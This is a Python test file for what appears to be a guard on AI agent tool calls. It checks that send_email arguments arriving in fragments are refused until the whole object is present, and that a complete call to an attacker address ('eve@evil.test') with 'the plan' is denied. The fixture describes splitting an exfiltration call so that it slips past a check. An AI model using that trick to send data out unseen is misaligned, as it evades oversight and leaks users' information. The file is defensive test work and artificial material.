"""Case 142: the arguments arrive in pieces, and a piece is judged or run before the rest is there.

A part of an address is no address, so each piece looks harmless. A proposal takes whole objects only: text that would
have to be parsed, half or whole, is refused and never put together here; a call whose stream broke off was never
proposed, and leaves nothing behind that could run. The honest twin proposes when the last piece is there.
"""

from __future__ import annotations

from typing import Any

import pytest

from interlock import Call, MemoryJournal
from interlock.errors import NotCanonical
from interlock.model.canonical import parse
from tests.cases.desk import armed, did, fresh, got, locked

PIECES = ['{"to":"eve@ev', 'il.test","bo', 'dy":"the plan"}']


@pytest.mark.parametrize("arguments", [*PIECES, "".join(PIECES), "", PIECES, b"{}", [("to", "x")], 7, True])
def test_attack_what_is_no_object_is_no_call(arguments: Any) -> None:
    guard = fresh()
    ran: list[Any] = []
    outcome = guard.call("send_email", arguments, run=lambda **given: ran.append(given))
    assert got(outcome) == ("deny", "invalid_call")
    assert ran == []
    assert not guard.conversation.exposure


@pytest.mark.parametrize(
    "text", [*PIECES, PIECES[0] + "}", '{"to":"a"', '{"to":"a"}}', "{'to':'a'}", '{"to":"a",}', ""]
)
def test_attack_half_an_object_is_not_repaired(text: str) -> None:
    with pytest.raises(NotCanonical):
        parse(text)


def test_attack_a_stream_that_broke_off_left_nothing() -> None:
    lock = locked()
    guard = armed(lock)
    held = guard.conversation.exposure
    pieces = PIECES[:2]
    with pytest.raises(NotCanonical):
        parse("".join(pieces))
    assert guard.conversation.exposure == held
    assert isinstance(lock.journal, MemoryJournal)
    assert len(lock.journal.entries(guard.conversation.id)) == 5  # opened, and two calls with their outcomes


def test_attack_the_whole_is_judged_as_a_whole() -> None:
    arguments = parse("".join(PIECES))
    assert isinstance(arguments, dict)
    assert got(did(armed(), "send_email", arguments)) == ("deny", "trifecta")


def test_honest_when_the_last_piece_is_there() -> None:
    whole = "".join(PIECES).replace("eve@evil.test", "kim@corp.example")
    arguments = parse(whole)
    assert isinstance(arguments, dict)
    guard = armed(typed="Write to kim@corp.example please.")
    ticket = guard.propose(Call("send_email", arguments, "call_1"))
    assert list(ticket.allowed) == ["call_1"]
    assert did(guard, "send_email", arguments).executed
